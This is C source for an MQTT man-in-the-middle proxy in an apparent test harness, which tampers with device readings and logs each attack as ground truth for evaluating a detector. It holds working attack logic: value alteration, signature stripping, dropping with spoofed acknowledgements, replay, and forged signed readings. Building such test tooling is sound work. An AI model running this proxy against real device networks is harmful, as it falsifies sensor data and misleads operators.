/* mitm_mqtt.c — `canary attack mitm-mqtt`: a man-in-the-middle TCP proxy between MQTT
 * devices and the broker that tampers with readings the way an attacker on the network
 * would (docs/ATTACK.md).
 *
 * Every client connection gets its own connection to the upstream broker. Bytes are cut
 * into MQTT packets in both directions (mqtt_frame.h; our own codec because a proxy must
 * see and rewrite what libmosquitto hides). Everything except a device's PUBLISH on
 * `<prefix>/<device>/up` is passed through byte-exact; such a PUBLISH may be altered,
 * stripped of its signature, dropped (the device gets the PUBACK or PUBREC the broker
 * would have sent, so it does not notice), delayed, held back behind the device's next
 * message, or followed by a replay of an earlier message of the device or a forgery
 * (injected at QoS 0, so no acknowledgement comes back to confuse the device). Each attack
 * is one line of ground truth.
 *
 * One thread, one epoll set: the listener, a signalfd (SIGINT/SIGTERM stop it cleanly),
 * and two sockets per connection. Buffers are bounded: a packet larger than --max-packet
 * closes its connection, and a side stops reading while the other side's output holds
 * more than OUT_HIGH bytes, so TCP pushes back on a fast sender. A broker that goes away
 * closes its client's connection after what it sent has been delivered. */
#include "cli/mitm.h"
#include "cli/mqtt_frame.h"

#include "core/clock.h"

#include <cjson/cJSON.h>
#include <errno.h>
#include <getopt.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <unistd.h>

#define OUT_HIGH        (4u << 20) /* stop reading the other side above this */
#define READ_CHUNK      65536
#define REORDER_HOLD_MS 5000 /* a held message goes out after this even without a successor */
#define MAX_SWALLOWED   64   /* QoS 2 packet ids whose PUBREL we answer ourselves */

struct mqtt_opts {
    struct mitm_opts c; /* --listen, --upstream, --attack, ... (mitm_opts.c) */
    const char *prefix;
    size_t max_packet;
    unsigned max_conns;
};

enum { SIDE_CLIENT = 0, SIDE_UPSTREAM = 1 };

struct buf {
    uint8_t *data;
    size_t len, cap, off; /* off: bytes already written (output buffers) */
};

struct pending {
    struct pending *next;
    int64_t due_ms;
    size_t len;
    uint8_t bytes[];
};

struct conn;

struct side {
    struct conn *conn;
    int which;
    int fd;
    struct buf in, out;
    bool eof;
    uint32_t events; /* what epoll watches now */
};

struct conn {
    uint64_t id;
    struct side s[2];
    bool connecting; /* upstream connect() in progress */
    bool closing;    /* close once the client's output is written */
    int level;       /* protocol level from CONNECT; 4 until seen */
    struct pending *delayed, *delayed_tail;
    struct pending *held; /* a reordered message waiting for its device's next one */
    char held_device[MITM_MAX_DEVICE + 1];
    int64_t held_since_ms;
    uint16_t swallowed[MAX_SWALLOWED]; /* QoS 2 ids of dropped messages */
    unsigned n_swallowed;
    struct conn *prev, *next;
};

struct counters {
    uint64_t connections, refused, upstream_failures, open, malformed, oversized;
    uint64_t packets_up, packets_down, publishes_up, readings_up, injected, bytes_up, bytes_down;
};

struct proxy {
    struct mqtt_opts o;
    int ep, lfd, sfd;
    struct addrinfo *up_ai;
    struct conn *conns;
    uint64_t next_id;
    struct counters n;
    struct mitm_history *hist;
    struct mitm_truth truth;
    struct rng rng;
    bool stop;
};

/* ---- buffers ------------------------------------------------------------------------- */

static bool buf_append(struct buf *b, const void *p, size_t n)
{
    if (b->off > 0 && b->off == b->len)
        b->off = b->len = 0;
    if (b->len + n > b->cap) {
        if (b->off > 0) { /* compact first */
            memmove(b->data, b->data + b->off, b->len - b->off);
            b->len -= b->off;
            b->off = 0;
        }
        if (b->len + n > b->cap) {
            size_t cap = b->cap ? b->cap : 4096;
            while (cap < b->len + n)
                cap *= 2;
            uint8_t *d = realloc(b->data, cap);
            if (d == NULL)
                return false;
            b->data = d;
            b->cap = cap;
        }
    }
    memcpy(b->data + b->len, p, n);
    b->len += n;
    return true;
}

static size_t buf_pending(const struct buf *b)
{
    return b->len - b->off;
}

/* ---- connection lifetime --------------------------------------------------------------- */

static void side_watch(struct proxy *px, struct side *sd)
{
    struct conn *c = sd->conn;
    if (sd->fd < 0)
        return;
    struct side *other = &c->s[!sd->which];
    uint32_t ev = 0;
    bool can_read = !sd->eof && !c->closing && buf_pending(&other->out) < OUT_HIGH;
    if (sd->which == SIDE_UPSTREAM && c->connecting)
        ev = EPOLLOUT;
    else {
        if (can_read)
            ev |= EPOLLIN;
        if (buf_pending(&sd->out) > 0)
            ev |= EPOLLOUT;
    }
    if (ev == sd->events)
        return;
    struct epoll_event e = {.events = ev, .data.ptr = sd};
    epoll_ctl(px->ep, EPOLL_CTL_MOD, sd->fd, &e);
    sd->events = ev;
}

static void conn_free(struct proxy *px, struct conn *c)
{
    for (int i = 0; i < 2; i++) {
        if (c->s[i].fd >= 0) {
            epoll_ctl(px->ep, EPOLL_CTL_DEL, c->s[i].fd, NULL);
            close(c->s[i].fd);
        }
        free(c->s[i].in.data);
        free(c->s[i].out.data);
    }
    for (struct pending *p = c->delayed, *next; p != NULL; p = next) {
        next = p->next;
        free(p);
    }
    free(c->held);
    if (c->prev)
        c->prev->next = c->next;
    else
        px->conns = c->next;
    if (c->next)
        c->next->prev = c->prev;
    px->n.open--;
    free(c);
}

static void accept_one(struct proxy *px)
{
    int fd = accept4(px->lfd, NULL, NULL, SOCK_NONBLOCK | SOCK_CLOEXEC);
    if (fd < 0)
        return;
    if (px->n.open >= px->o.max_conns) {
        px->n.refused++;
        close(fd);
        return;
    }
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    int ufd = socket(px->up_ai->ai_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    struct conn *c = ufd >= 0 ? calloc(1, sizeof *c) : NULL;
    if (c == NULL) {
        px->n.upstream_failures++;
        if (ufd >= 0)
            close(ufd);
        close(fd);
        return;
    }
    setsockopt(ufd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    c->id = ++px->next_id;
    c->level = 4;
    for (int i = 0; i < 2; i++) {
        c->s[i].conn = c;
        c->s[i].which = i;
    }
    c->s[SIDE_CLIENT].fd = fd;
    c->s[SIDE_UPSTREAM].fd = ufd;
    int rc = connect(ufd, px->up_ai->ai_addr, px->up_ai->ai_addrlen);
    c->connecting = rc != 0 && errno == EINPROGRESS;
    c->next = px->conns;
    if (px->conns)
        px->conns->prev = c;
    px->conns = c;
    px->n.open++;
    px->n.connections++;
    if (rc != 0 && !c->connecting) {
        px->n.upstream_failures++;
        c->s[SIDE_UPSTREAM].fd = -1;
        close(ufd);
        conn_free(px, c);
        return;
    }
    for (int i = 0; i < 2; i++) {
        struct epoll_event e = {.events = 0, .data.ptr = &c->s[i]};
        epoll_ctl(px->ep, EPOLL_CTL_ADD, c->s[i].fd, &e);
        c->s[i].events = 0;
    }
    side_watch(px, &c->s[0]);
    side_watch(px, &c->s[1]);
}

/* ---- sending ------------------------------------------------------------------------- */

static void send_to(struct proxy *px, struct conn *c, int which, const void *p, size_t n)
{
    if (c->s[which].fd < 0)
        return;
    if (!buf_append(&c->s[which].out, p, n)) {
        fprintf(stderr, "canary attack mitm-mqtt: out of memory; closing connection %llu\n",
                (unsigned long long)c->id);
        c->closing = true;
    }
    if (which == SIDE_UPSTREAM)
        px->n.bytes_up += n;
    else
        px->n.bytes_down += n;
}

static void delay_push(struct conn *c, int64_t due, const void *p, size_t n)
{
    struct pending *d = malloc(sizeof *d + n);
    if (d == NULL)
        return;
    d->next = NULL;
    d->due_ms = due;
    d->len = n;
    memcpy(d->bytes, p, n);
    if (c->delayed_tail)
        c->delayed_tail->next = d;
    else
        c->delayed = d;
    c->delayed_tail = d;
}

/* Sends what is due: delayed packets (in order) and a held message past its hold. */
static void flush_due(struct proxy *px, struct conn *c, int64_t now, bool all)
{
    while (c->delayed != NULL && (all || c->delayed->due_ms <= now)) {
        struct pending *d = c->delayed;
        c->delayed = d->next;
        if (c->delayed == NULL)
            c->delayed_tail = NULL;
        send_to(px, c, SIDE_UPSTREAM, d->bytes, d->len);
        free(d);
    }
    if (c->held != NULL && (all || now - c->held_since_ms >= REORDER_HOLD_MS)) {
        send_to(px, c, SIDE_UPSTREAM, c->held->bytes, c->held->len);
        free(c->held);
        c->held = NULL;
    }
}

/* Injects a QoS 0 PUBLISH of payload on topic towards the broker. */
static bool inject(struct proxy *px, struct conn *c, const char *topic, const char *payload,
                   size_t len)
{
    struct mqtt_publish p = {.topic = topic,
                             .topic_len = strlen(topic),
                             .payload = (const uint8_t *)payload,
                             .payload_len = len};
    size_t size = mqtt_publish_size(&p, c->level);
    uint8_t *pkt = size > 0 ? malloc(size) : NULL;
    if (pkt == NULL)
        return false;
    long n = mqtt_publish_encode(&p, c->level, pkt, size);
    if (n > 0) {
        send_to(px, c, SIDE_UPSTREAM, pkt, (size_t)n);
        px->n.injected++;
    }
    free(pkt);
    return n > 0;
}

/* ---- the attacks ---------------------------------------------------------------------- */

/* The device of "<prefix>/<device>/up" into dev, or false. */
static bool up_topic_device(const struct mqtt_opts *o, const char *topic, size_t len, char *dev,
                            size_t cap)
{
    size_t pl = strlen(o->prefix);
    if (len < pl + 5 || memcmp(topic, o->prefix, pl) != 0 || topic[pl] != '/' ||
        memcmp(topic + len - 3, "/up", 3) != 0)
        return false;
    size_t dl = len - pl - 4;
    if (dl == 0 || dl >= cap || memchr(topic + pl + 1, '/', dl) != NULL)
        return false;
    memcpy(dev, topic + pl + 1, dl);
    dev[dl] = '\0';
    return true;
}

static cJSON *extra_pub(const struct mqtt_publish *p)
{
    cJSON *x = cJSON_CreateObject();
    cJSON_AddNumberToObject(x, "qos", p->qos);
    if (p->qos > 0)
        cJSON_AddNumberToObject(x, "packet_id", p->packet_id);
    return x;
}

/* Re-encodes p with a new payload and sends it upstream. */
static bool send_rewritten(struct proxy *px, struct conn *c, const struct mqtt_publish *p,
                           const char *payload, size_t len)
{
    struct mqtt_publish q = *p;
    q.payload = (const uint8_t *)payload;
    q.payload_len = len;
    size_t size = mqtt_publish_size(&q, c->level);
    uint8_t *pkt = size > 0 ? malloc(size) : NULL;
    long n = pkt != NULL ? mqtt_publish_encode(&q, c->level, pkt, size) : -1;
    if (n > 0)
        send_to(px, c, SIDE_UPSTREAM, pkt, (size_t)n);
    free(pkt);
    return n > 0;
}

/* A device's PUBLISH on its up topic: draw an attack and carry it out. pkt/len is the whole
 * packet as received. */
static void on_reading(struct proxy *px, struct conn *c, const uint8_t *pkt, size_t len,
                       const struct mqtt_publish *p, const char *dev)
{
    px->n.readings_up++;
    const char *payload = (const char *)p->payload;
    size_t plen = p->payload_len;
    struct mitm_info info;
    mitm_inspect(payload, plen, &info);
    char topic[512];
    snprintf(topic, sizeof topic, "%.*s", (int)p->topic_len, p->topic);
    int64_t now = clock_mono_ms();

    /* A message held for reordering goes out right after its device's next one. */
    bool release_held = c->held != NULL && strcmp(c->held_device, dev) == 0;

    /* A device's first --warmup clean messages pass, so that there is something to replay
     * and canaryd knows the device. The draw happens for every reading (reproducible). */
    int kind = mitm_plan_choose(&px->o.c.plan, &px->rng);
    uint64_t clean_seen = mitm_history_count(px->hist, dev);
    if (clean_seen < px->o.c.plan.warmup || (kind == MITM_REPLAY && clean_seen < 2))
        kind = MITM_NONE;
    if (kind == MITM_REORDER && c->held != NULL)
        kind = MITM_NONE; /* one held message at a time */
    if (kind == MITM_STRIP && !info.is_jws)
        kind = MITM_NONE; /* nothing to strip */

    struct mitm_change chg = {.seq = info.seq, .has_seq = info.has_seq};
    size_t cap = plen * 2 + 1024;
    char *out = malloc(cap);
    if (out == NULL)
        kind = MITM_NONE;
    bool clean = true; /* the original reaches the broker unchanged and in time */
    switch (kind) {
    case MITM_ALTER: {
        long n = mitm_alter(payload, plen, out, cap, &chg);
        if (n < 0 || !send_rewritten(px, c, p, out, (size_t)n)) {
            kind = MITM_NONE;
            break;
        }
        clean = false;
        char done[200];
        snprintf(done, sizeof done, "%s changed from %g to %g%s", chg.metric, chg.from, chg.to,
                 info.is_jws ? " inside the JWS payload (re-encoded), signature kept"
                             : " in the plain reading");
        cJSON *x = extra_pub(p);
        cJSON_AddBoolToObject(x, "signed", info.is_jws);
        mitm_truth_record(&px->truth, dev, kind, &chg, done, x);
        break;
    }
    case MITM_STRIP: {
        long n = mitm_strip(payload, plen, out, cap);
        if (n < 0 || !send_rewritten(px, c, p, out, (size_t)n)) {
            kind = MITM_NONE;
            break;
        }
        clean = false;
        mitm_truth_record(&px->truth, dev, kind, &chg,
                          "sent the JWS payload as plain JSON, without the signature",
                          extra_pub(p));
        break;
    }
    case MITM_DROP: {
        /* Answer for the broker so the device believes it was delivered. */
        uint8_t ack[4];
        if (p->qos == 1 && mqtt_ack_encode(MQTT_PUBACK, p->packet_id, ack) == 4)
            send_to(px, c, SIDE_CLIENT, ack, 4);
        if (p->qos == 2 && mqtt_ack_encode(MQTT_PUBREC, p->packet_id, ack) == 4) {
            send_to(px, c, SIDE_CLIENT, ack, 4);
            if (c->n_swallowed < MAX_SWALLOWED)
                c->swallowed[c->n_swallowed++] = p->packet_id;
        }
        clean = false;
        mitm_truth_record(&px->truth, dev, kind, &chg,
                          p->qos > 0 ? "dropped; the proxy acknowledged it to the device"
                                     : "dropped",
                          extra_pub(p));
        break;
    }
    case MITM_DELAY: {
        delay_push(c, now + px->o.c.plan.delay_ms, pkt, len);
        clean = false;
        char done[96];
        snprintf(done, sizeof done, "delivered %u ms late", px->o.c.plan.delay_ms);
        cJSON *x = extra_pub(p);
        cJSON_AddNumberToObject(x, "delay_ms", px->o.c.plan.delay_ms);
        mitm_truth_record(&px->truth, dev, kind, &chg, done, x);
        break;
    }
    case MITM_REORDER: {
        struct pending *h = malloc(sizeof *h + len);
        if (h == NULL) {
            kind = MITM_NONE;
            break;
        }
        h->next = NULL;
        h->len = len;
        memcpy(h->bytes, pkt, len);
        c->held = h;
        c->held_since_ms = now;
        snprintf(c->held_device, sizeof c->held_device, "%s", dev);
        release_held = false;
        clean = false;
        mitm_truth_record(&px->truth, dev, kind, &chg,
                          "held back and delivered after the device's next message", extra_pub(p));
        break;
    }
    default:
        break;
    }
    if (kind == MITM_NONE || kind == MITM_REPLAY || kind == MITM_FORGE ||
        kind == MITM_FORGE_UNSIGNED)
        send_to(px, c, SIDE_UPSTREAM, pkt, len);
    if (release_held) {
        send_to(px, c, SIDE_UPSTREAM, c->held->bytes, c->held->len);
        free(c->held);
        c->held = NULL;
    }
    if (kind == MITM_REPLAY) {
        char *old = NULL, *where = NULL, *aux = NULL;
        long n = mitm_history_oldest(px->hist, dev, &old, &where, &aux);
        if (n >= 0 && inject(px, c, where, old, (size_t)n)) {
            struct mitm_info oi;
            mitm_inspect(old, (size_t)n, &oi);
            struct mitm_change rc = {.seq = oi.seq, .has_seq = oi.has_seq};
            cJSON *x = cJSON_CreateObject();
            cJSON_AddNumberToObject(x, "qos", 0);
            if (info.has_seq)
                cJSON_AddNumberToObject(x, "after_seq", info.seq);
            mitm_truth_record(&px->truth, dev, kind, &rc,
                              "sent an earlier message of the device again, byte for byte", x);
        }
        free(old);
        free(where);
        free(aux);
    }
    if (kind == MITM_FORGE || kind == MITM_FORGE_UNSIGNED) {
        bool sign = kind == MITM_FORGE;
        long n = mitm_forge(payload, plen, sign, clock_wall_ms(), out, cap, &chg);
        if (n > 0 && inject(px, c, topic, out, (size_t)n)) {
            char done[200];
            snprintf(done, sizeof done, "injected a reading (%s %g) %s", chg.metric, chg.to,
                     sign ? "signed as a JWS with a made-up key" : "without a signature");
            cJSON *x = cJSON_CreateObject();
            cJSON_AddNumberToObject(x, "qos", 0);
            cJSON_AddBoolToObject(x, "device_signs", info.is_jws);
            if (info.has_seq)
                cJSON_AddNumberToObject(x, "imitates_seq", info.seq);
            mitm_truth_record(&px->truth, dev, kind, &chg, done, x);
        }
    }
    free(out);
    if (clean)
        mitm_history_add(px->hist, dev, topic, payload, plen, NULL);
}

/* ---- packets ------------------------------------------------------------------------- */

/* One whole packet from the client: inspect, attack or pass through. */
static void from_client(struct proxy *px, struct conn *c, const uint8_t *pkt,
                        const struct mqtt_frame *f)
{
    px->n.packets_up++;
    if (f->type == MQTT_CONNECT) {
        int level = mqtt_connect_level(pkt, f);
        if (level > 0)
            c->level = level;
    }
    if (f->type == MQTT_PUBREL && c->n_swallowed > 0) {
        int id = mqtt_ack_packet_id(pkt, f);
        for (unsigned i = 0; i < c->n_swallowed; i++) {
            if (c->swallowed[i] == id) {
                c->swallowed[i] = c->swallowed[--c->n_swallowed];
                uint8_t ack[4];
                mqtt_ack_encode(MQTT_PUBCOMP, (uint16_t)id, ack);
                send_to(px, c, SIDE_CLIENT, ack, 4);
                return;
            }
        }
    }
    if (f->type == MQTT_DISCONNECT && (c->delayed != NULL || c->held != NULL)) {
        /* Deliver the delayed messages first: the broker closes at DISCONNECT. */
        int64_t due = c->delayed_tail ? c->delayed_tail->due_ms : clock_mono_ms();
        if (c->held != NULL) {
            delay_push(c, due, c->held->bytes, c->held->len);
            free(c->held);
            c->held = NULL;
        }
        delay_push(c, due, pkt, f->total);
        return;
    }
    if (f->type == MQTT_PUBLISH) {
        px->n.publishes_up++;
        struct mqtt_publish p;
        char err[160];
        if (mqtt_publish_parse(pkt, f, c->level, &p, err, sizeof err) != MQTT_FRAME_OK) {
            px->n.malformed++;
            if (!px->o.c.quiet)
                fprintf(stderr, "canary attack mitm-mqtt: connection %llu: %s; closing it\n",
                        (unsigned long long)c->id, err);
            c->closing = true;
            return;
        }
        char dev[MITM_MAX_DEVICE + 1];
        if (up_topic_device(&px->o, p.topic, p.topic_len, dev, sizeof dev)) {
            on_reading(px, c, pkt, f->total, &p, dev);
            return;
        }
    }
    send_to(px, c, SIDE_UPSTREAM, pkt, f->total);
}

/* Cuts the side's input into packets and handles each. */
static void process_input(struct proxy *px, struct side *sd)
{
    struct conn *c = sd->conn;
    struct buf *in = &sd->in;
    size_t off = 0;
    while (!c->closing) {
        struct mqtt_frame f;
        enum mqtt_frame_status st =
            mqtt_frame_peek(in->data + off, in->len - off, px->o.max_packet, &f);
        if (st == MQTT_FRAME_NEED_MORE)
            break;
        if (st != MQTT_FRAME_OK) {
            if (st == MQTT_FRAME_TOO_LARGE)
                px->n.oversized++;
            else
                px->n.malformed++;
            if (!px->o.c.quiet)
                fprintf(stderr,
                        "canary attack mitm-mqtt: connection %llu: %s packet from the %s; "
                        "closing it\n",
                        (unsigned long long)c->id,
                        st == MQTT_FRAME_TOO_LARGE ? "an oversized" : "a malformed",
                        sd->which == SIDE_CLIENT ? "client" : "broker");
            c->closing = true;
            break;
        }
        if (sd->which == SIDE_CLIENT) {
            from_client(px, c, in->data + off, &f);
        } else {
            px->n.packets_down++;
            send_to(px, c, SIDE_CLIENT, in->data + off, f.total);
        }
        off += f.total;
    }
    if (off > 0) {
        memmove(in->data, in->data + off, in->len - off);
        in->len -= off;
    }
}

/* ---- I/O ----------------------------------------------------------------------------- */

static void on_readable(struct proxy *px, struct side *sd)
{
    uint8_t tmp[READ_CHUNK];
    for (int rounds = 0; rounds < 16; rounds++) {
        ssize_t r = read(sd->fd, tmp, sizeof tmp);
        if (r > 0) {
            if (!buf_append(&sd->in, tmp, (size_t)r)) {
                sd->conn->closing = true;
                return;
            }
            process_input(px, sd);
            if (sd->conn->closing || buf_pending(&sd->conn->s[!sd->which].out) >= OUT_HIGH)
                return;
            continue;
        }
        if (r == 0)
            sd->eof = true;
        else if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR)
            sd->eof = true;
        return;
    }
}

static void on_writable(struct proxy *px, struct side *sd)
{
    struct conn *c = sd->conn;
    if (sd->which == SIDE_UPSTREAM && c->connecting) {
        int err = 0;
        socklen_t l = sizeof err;
        getsockopt(sd->fd, SOL_SOCKET, SO_ERROR, &err, &l);
        c->connecting = false;
        if (err != 0) {
            px->n.upstream_failures++;
            if (!px->o.c.quiet)
                fprintf(stderr, "canary attack mitm-mqtt: upstream %s: %s\n", px->o.c.upstream,
                        strerror(err));
            sd->eof = true;
            c->closing = true;
            return;
        }
    }
    struct buf *b = &sd->out;
    while (buf_pending(b) > 0) {
        ssize_t w = send(sd->fd, b->data + b->off, buf_pending(b), MSG_NOSIGNAL);
        if (w > 0) {
            b->off += (size_t)w;
            continue;
        }
        if (w < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR))
            break;
        sd->eof = true; /* the peer is gone */
        c->closing = true;
        b->off = b->len;
        break;
    }
}

/* Decides whether a connection is finished: the upstream gone (after its bytes reached the
 * client), the client gone (after delayed messages and buffered bytes reached upstream),
 * or a protocol error. Returns true when it was freed. */
static bool maybe_close(struct proxy *px, struct conn *c)
{
    struct side *cl = &c->s[SIDE_CLIENT], *up = &c->s[SIDE_UPSTREAM];
    bool done = false;
    if (c->closing)
        done = buf_pending(&cl->out) == 0 || cl->eof;
    else if (up->eof)
        done = buf_pending(&cl->out) == 0 || cl->eof;
    else if (cl->eof)
        done =
            c->delayed == NULL && c->held == NULL && buf_pending(&up->out) == 0 && !c->connecting;
    if (done) {
        conn_free(px, c);
        return true;
    }
    side_watch(px, cl);
    side_watch(px, up);
    return false;
}

/* ---- main loop ----------------------------------------------------------------------- */

static int open_listener(struct proxy *px)
{
    char host[256];
    unsigned port;
    if (mitm_split_hostport(px->o.c.listen, host, sizeof host, &port) != 0) {
        fprintf(stderr, "canary attack mitm-mqtt: --listen %s: expected HOST:PORT\n",
                px->o.c.listen);
        return -1;
    }
    struct addrinfo hints = {.ai_family = AF_UNSPEC,
                             .ai_socktype = SOCK_STREAM,
                             .ai_flags = AI_PASSIVE | AI_NUMERICSERV},
                    *ai;
    char ps[16];
    snprintf(ps, sizeof ps, "%u", port);
    int rc = getaddrinfo(host, ps, &hints, &ai);
    if (rc != 0) {
        fprintf(stderr, "canary attack mitm-mqtt: --listen %s: %s\n", px->o.c.listen,
                gai_strerror(rc));
        return -1;
    }
    px->lfd = socket(ai->ai_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    int one = 1;
    setsockopt(px->lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (px->lfd < 0 || bind(px->lfd, ai->ai_addr, ai->ai_addrlen) != 0 ||
        listen(px->lfd, 1024) != 0) {
        fprintf(stderr, "canary attack mitm-mqtt: --listen %s: %s\n", px->o.c.listen,
                strerror(errno));
        freeaddrinfo(ai);
        return -1;
    }
    freeaddrinfo(ai);
    struct sockaddr_storage ss;
    socklen_t sl = sizeof ss;
    getsockname(px->lfd, (struct sockaddr *)&ss, &sl);
    unsigned bound = ntohs(ss.ss_family == AF_INET6 ? ((struct sockaddr_in6 *)&ss)->sin6_port
                                                    : ((struct sockaddr_in *)&ss)->sin_port);
    printf("mitm-mqtt: listening on %s port %u, upstream %s\n", host, bound, px->o.c.upstream);
    fflush(stdout);
    if (px->o.c.port_file != NULL) {
        FILE *fp = fopen(px->o.c.port_file, "w");
        if (fp != NULL) {
            fprintf(fp, "%u\n", bound);
            fclose(fp);
        }
    }
    return 0;
}

static int resolve_upstream(struct proxy *px)
{
    char host[256];
    unsigned port;
    if (mitm_split_hostport(px->o.c.upstream, host, sizeof host, &port) != 0 || port == 0) {
        fprintf(stderr, "canary attack mitm-mqtt: --upstream %s: expected HOST:PORT\n",
                px->o.c.upstream);
        return -1;
    }
    struct addrinfo hints = {
        .ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM, .ai_flags = AI_NUMERICSERV};
    char ps[16];
    snprintf(ps, sizeof ps, "%u", port);
    int rc = getaddrinfo(host, ps, &hints, &px->up_ai);
    if (rc != 0) {
        fprintf(stderr, "canary attack mitm-mqtt: --upstream %s: %s\n", px->o.c.upstream,
                gai_strerror(rc));
        return -1;
    }
    return 0;
}

static int64_t next_timer(const struct proxy *px, int64_t now)
{
    int64_t wake = now + 1000;
    for (const struct conn *c = px->conns; c != NULL; c = c->next) {
        if (c->delayed != NULL && c->delayed->due_ms < wake)
            wake = c->delayed->due_ms;
        if (c->held != NULL && c->held_since_ms + REORDER_HOLD_MS < wake)
            wake = c->held_since_ms + REORDER_HOLD_MS;
    }
    return wake;
}

static cJSON *counters_json(const struct proxy *px)
{
    cJSON *o = cJSON_CreateObject();
    const struct counters *n = &px->n;
#define C(f) cJSON_AddNumberToObject(o, #f, (double)n->f)
    C(connections);
    C(refused);
    C(upstream_failures);
    C(malformed);
    C(oversized);
    C(packets_up);
    C(packets_down);
    C(publishes_up);
    C(readings_up);
    C(injected);
    C(bytes_up);
    C(bytes_down);
#undef C
    return o;
}

static int run(struct proxy *px)
{
    px->ep = epoll_create1(EPOLL_CLOEXEC);
    struct epoll_event e = {.events = EPOLLIN, .data.ptr = &px->lfd};
    epoll_ctl(px->ep, EPOLL_CTL_ADD, px->lfd, &e);
    e.data.ptr = &px->sfd;
    epoll_ctl(px->ep, EPOLL_CTL_ADD, px->sfd, &e);
    struct epoll_event evs[256];
    while (!px->stop) {
        int64_t now = clock_mono_ms();
        int64_t wake = next_timer(px, now);
        int n = epoll_wait(px->ep, evs, 256, wake > now ? (int)(wake - now) : 0);
        if (n < 0 && errno != EINTR)
            break;
        for (int i = 0; i < n; i++) {
            void *ptr = evs[i].data.ptr;
            if (ptr == &px->lfd) {
                for (int k = 0; k < 64; k++) {
                    uint64_t before = px->n.connections + px->n.refused;
                    accept_one(px);
                    if (px->n.connections + px->n.refused == before)
                        break;
                }
                continue;
            }
            if (ptr == &px->sfd) {
                struct signalfd_siginfo si;
                if (read(px->sfd, &si, sizeof si) > 0)
                    px->stop = true;
                continue;
            }
            struct side *sd = ptr;
            if (evs[i].events & EPOLLOUT)
                on_writable(px, sd);
            if (evs[i].events & (EPOLLIN | EPOLLHUP | EPOLLERR))
                on_readable(px, sd);
        }
        /* timers, output and closing: walk every connection (few hundred at most matter) */
        now = clock_mono_ms();
        for (struct conn *c = px->conns, *next; c != NULL; c = next) {
            next = c->next;
            flush_due(px, c, now, false);
            for (int s = 0; s < 2; s++)
                if (buf_pending(&c->s[s].out) > 0 && !(s == SIDE_UPSTREAM && c->connecting))
                    on_writable(px, &c->s[s]);
            maybe_close(px, c);
        }
    }
    /* Stopping: deliver what is delayed or held, then close everything. */
    for (struct conn *c = px->conns; c != NULL; c = c->next) {
        flush_due(px, c, 0, true);
        if (!c->connecting)
            on_writable(px, &c->s[SIDE_UPSTREAM]);
        on_writable(px, &c->s[SIDE_CLIENT]);
    }
    while (px->conns != NULL)
        conn_free(px, px->conns);
    return 0;
}

static void usage(FILE *out)
{
    fprintf(out,
            "usage: canary attack mitm-mqtt --listen HOST:PORT --upstream HOST:PORT --truth FILE\n"
            "                               [--attack KIND[:RATE]]... [options]\n"
            "\n"
            "A man-in-the-middle proxy between MQTT devices and the broker. Devices connect to\n"
            "--listen (port 0: any free port, printed); each connection is relayed to the\n"
            "broker at --upstream. PUBLISH packets on <prefix>/<device>/up are attacked:\n"
            "  alter           change a value (a JWS keeps its old signature)\n"
            "  strip           send a JWS's payload as plain JSON\n"
            "  drop            never deliver it (the device gets its PUBACK from the proxy)\n"
            "  delay           deliver it --delay-ms later\n"
            "  reorder         deliver it after the device's next message\n"
            "  replay          deliver it, then an earlier message of the device again\n"
            "  forge           deliver it, and inject a reading signed with a made-up key\n"
            "  forge-unsigned  deliver it, and inject an unsigned reading for the device\n"
            "RATE is the share of readings the kind hits (default 0.1; at most one kind per\n"
            "reading, so the rates add up to 1 or less). Every attacked message is a JSON line\n"
            "in --truth; the proxy's counters close it on SIGINT or SIGTERM.\n"
            "\n"
            "options:\n"
            "  --topic-prefix P   topics' prefix (default canary)\n"
            "  --delay-ms MS      how late delayed messages go out (default 2000)\n"
            "  --warmup N         a device's first N clean messages are not attacked (default 2)\n"
            "  --seed N           the draw of attacks (default 1)\n"
            "  --max-packet BYTES largest packet relayed (default 1048576; larger: the\n"
            "                     connection is closed)\n"
            "  --max-conns N      client connections at once (default 4096)\n"
            "  --port-file FILE   write the listening port there\n"
            "  --quiet            no per-connection messages on stderr\n");
}

int attack_mitm_mqtt_main(int argc, char **argv)
{
    struct proxy *px = calloc(1, sizeof *px);
    if (px == NULL)
        return 1;
    struct mqtt_opts *o = &px->o;
    mitm_opts_defaults(&o->c, false);
    o->prefix = "canary";
    o->max_packet = 1u << 20;
    o->max_conns = 4096;
    static const struct option longopts[] = {MITM_COMMON_LONGOPTS,
                                             {"topic-prefix", required_argument, NULL, 'P'},
                                             {"max-packet", required_argument, NULL, 'm'},
                                             {"max-conns", required_argument, NULL, 'c'},
                                             {NULL, 0, NULL, 0}};
    int opt, rc = 0;
    optind = 1;
    while (rc == 0 && (opt = getopt_long(argc, argv, "", longopts, NULL)) != -1) {
        int common = mitm_common_option(&o->c, opt, optarg, "mitm-mqtt");
        if (common != 0) {
            rc = common == 2 ? 2 : 0;
            continue;
        }
        unsigned long long v;
        if (opt == 'P') {
            o->prefix = optarg;
        } else if (opt == 'm' || opt == 'c') {
            unsigned long long lo = opt == 'm' ? 16 : 1;
            unsigned long long hi = opt == 'm' ? MQTT_MAX_REMAINING + 5ull : 1000000;
            if (!mitm_parse_uint(optarg, hi, &v) || v < lo) {
                fprintf(stderr, "canary attack mitm-mqtt: --%s %s: out of range (%llu to %llu)\n",
                        opt == 'm' ? "max-packet" : "max-conns", optarg, lo, hi);
                rc = 2;
            } else if (opt == 'm') {
                o->max_packet = (size_t)v;
            } else {
                o->max_conns = (unsigned)v;
            }
        } else if (opt == 'h') {
            usage(stdout);
            free(px);
            return 0;
        } else {
            rc = 2;
        }
    }
    if (rc == 0)
        rc = mitm_common_check(&o->c, argc, argv, optind, "mitm-mqtt");
    if (rc == 2) {
        usage(stderr);
        free(px);
        return 2;
    }
    px->lfd = px->sfd = px->ep = -1;
    rng_seed_state(&px->rng, o->c.plan.seed);
    px->hist = mitm_history_new();
